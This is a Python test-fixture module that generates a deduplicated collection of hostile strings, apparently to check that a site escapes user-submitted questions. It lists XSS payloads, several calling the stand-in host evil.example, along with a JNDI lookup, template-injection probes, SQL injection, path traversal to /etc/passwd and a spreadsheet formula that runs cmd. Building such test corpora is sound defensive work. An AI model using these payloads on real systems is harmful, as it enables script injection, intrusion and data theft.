"""Strings that would become active if any page took them for markup, all of our own making."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import quote

_EVIL = "https://evil.example"
_RUN = "alert(1)"
_IMAGE = f"<img src=x onerror={_RUN}>"
_SCRIPT = f"<script>{_RUN}</script>"

_ELEMENTS = (
    f"{_SCRIPT}",
    f"<SCRIPT SRC={_EVIL}/x.js></SCRIPT>",
    f"<script/x>{_RUN}</script>",
    f"<script\n>{_RUN}</script\t>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script type=module>import '{_EVIL}/x.js'</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={_EVIL}/x.js /></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<svg><use href='{_EVIL}/x.svg#x'></use></svg>",
    f"<svg><image href={_EVIL}/x.png></image></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>",
    "<svg><foreignObject><iframe src=about:blank></iframe></foreignObject></svg>",
    f'<math><mi//xlink:href="javascript:{_RUN}">',
    f"<math><maction actiontype=statusline#{_EVIL} xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<img src={_EVIL}/pixel.png>",
    f"<img srcset='{_EVIL}/a.png 1x'>",
    f"<picture><source srcset={_EVIL}/a.png><img></picture>",
    f"<iframe src={_EVIL}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<frameset><frame src={_EVIL}></frameset>",
    f"<object data={_EVIL}/x.swf></object>",
    f"<object type=text/html data='data:text/html,{_SCRIPT}'></object>",
    f"<embed src={_EVIL}/x>",
    f"<applet code={_EVIL}/X.class></applet>",
    f"<link rel=stylesheet href={_EVIL}/x.css>",
    f"<link rel=prefetch href={_EVIL}/x>",
    f"<style>@import url({_EVIL}/x.css);</style>",
    f"<style>*{{background:url({_EVIL}/x)}}</style>",
    f"<p style='background:url({_EVIL}/x)'>x</p>",
    f"<p style='width:expression({_RUN})'>x</p>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    "<meta http-equiv=Set-Cookie content='orgbot=x'>",
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}><input name=q></form>",
    f"<form><button formaction=javascript:{_RUN}>x</button></form>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<input type=image src=x onerror={_RUN}>",
    "<textarea autofocus>x</textarea>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<video poster={_EVIL}/x.png></video>",
    f"<table background={_EVIL}/x.png><td>x</td></table>",
    "<dialog open>x</dialog>",
    f"<portal src={_EVIL}></portal>",
    f"<xml><i><b>{_IMAGE}</b></i></xml>",
    f"<?xml version='1.0'?><x>{_SCRIPT}</x>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_EVIL}/x'>]><x>&e;</x>",
    f"<![CDATA[{_SCRIPT}]]>",
    f"<x contenteditable onblur={_RUN}>x</x>",
    f"<custom-element onclick={_RUN}>x</custom-element>",
    "<slot name=x></slot><template shadowrootmode=open><b>x</b></template>",
    f"<noscript>{_IMAGE}</noscript>",
    f"<plaintext>{_SCRIPT}",
)
_HANDLERS = (
    *("load", "error", "click", "mouseover", "mouseenter", "pointerdown", "focus", "focusin", "blur", "toggle"),
    *(
        "animationstart",
        "transitionend",
        "wheel",
        "scroll",
        "copy",
        "paste",
        "submit",
        "keydown",
        "input",
        "beforetoggle",
    ),
    *("contextmenu", "dragstart", "resize", "hashchange", "pageshow", "message", "begin", "invalid"),
)
_HANDLED = ("div", "body", "details open", "input autofocus", "marquee", "a href=#", "svg")
_SCHEMES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A;&#x61;vascript:{_RUN}",
    f"javascript://{_EVIL}/%0A{_RUN}",
    f"data:text/html,{_SCRIPT}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"vbscript:msgbox({_RUN})",
    f"feed:javascript:{_RUN}",
    f"view-source:{_EVIL}",
    "//evil.example/x",
    "\\\\evil.example\\x",
)
_IN_LINKS = (
    "<a href='{}'>x</a>",
    "[x]({})",
    "![x]({})",
    "[x]: {}",
)
_BREAKOUTS = (
    *(
        '"',
        "'",
        "`",
        "-->",
        "--!>",
        "]]>",
        "*/",
        "?>",
        "%>",
        "\\",
        "\\'",
        '\\"',
        "/>",
        "'\">",
        "</p></article></section>",
    ),
    *(
        f"</{name}>"
        for name in ("title", "textarea", "style", "script", "noscript", "template", "xmp", "iframe", "svg")
    ),
)
_IN_ATTRIBUTES = (
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' tabindex=0 autofocus='",
    f"` onclick=`{_RUN}`",
    f"x onpointerenter={_RUN} y",
    f'"/onload={_RUN}/"',
    f"&quot; onclick=&quot;{_RUN}&quot;",
    f"&#34; onclick=&#34;{_RUN}&#34;",
    f"\u2019 onclick=\u2019{_RUN}\u2019",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&lt&#x0000000;script&gt;",
    "a \\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "a \\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    quote(_SCRIPT),
    quote(quote(_SCRIPT)),
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u200bscript>alert(1)</script>",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
    "\u202e<b>drawkcab</b>\u202c",
    "\u2066<i>isolated</i>\u2069",
    "\ufeff<script>alert(1)</script>",
    "a\u0301\u0301\u0301\u0301<b>x</b>",
)
_TEMPLATES = (
    "`${alert(1)}`",
    "${alert(1)}",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "{{ 7 * 7 }}{% print 7 * 7 %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{%- set x = cycler.__init__ -%}{{ x }}",
    "<%= 7 * 7 %>",
    "[[${7*7}]]",
    "*{T(java.lang.Runtime)}",
    "${jndi:ldap://evil.example/x}",
    "{0.__class__} {question!r} %(x)s %s %n",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\require{html}\\href{javascript:alert(1)}{x}\\)",
    "'; DROP TABLE questions; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    '{"__proto__": {"active": true}}',
    "__proto__[active]=1",
    "constructor.prototype.active=1",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
_MUTATIONS = (
    f'<noscript><p title="</noscript>{_IMAGE}">',
    f'<!--<img src="-->{_IMAGE}//">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<svg></p><style><a id="</style>{_IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMAGE}",
    f"<select><noembed></select><script x='a@b'>y='a@b'//a@b%0a\\u0061lert(1)</script x>{_IMAGE}",
    f"<table><caption><svg><desc><table><caption></svg>{_IMAGE}",
    f'<a title="<!--"></a><p title="-->{_IMAGE}">',
    f'<listing>&lt;img onerror="{_RUN};//" src=x&gt;<t t></listing>',
    "<form id=conversation><input name=attributes></form>",
    "<img name=getElementById><img id=location name=cookie>",
    "<a id=sources></a><a id=sources name=children href=x></a>",
)


def _all() -> Iterator[str]:
    yield from _ELEMENTS
    for n, handler in enumerate(_HANDLERS):
        yield f"<{_HANDLED[n % len(_HANDLED)]} on{handler}={_RUN}>x"
    for link in _IN_LINKS:
        yield from (link.format(address) for address in _SCHEMES)
    yield from (f"x{breakout}{_IMAGE}" for breakout in _BREAKOUTS)
    yield from _IN_ATTRIBUTES
    yield from _ENCODED
    yield from _TEMPLATES
    yield from _MUTATIONS


HOSTILE = tuple(dict.fromkeys(one.replace("\n", " ") for one in _all()))
"""Each different, none with a line break (a question is one line)."""


TOGETHER = " \u00a6 "


def packs(most: int) -> list[tuple[str, ...]]:
    """All of them, as many at a time as fit into `most` characters when they are joined by `TOGETHER`."""
    found: list[tuple[str, ...]] = []
    for one in HOSTILE:
        if found and len(TOGETHER.join((*found[-1], one))) <= most:
            found[-1] = (*found[-1], one)
        else:
            found.append((one,))
    return found
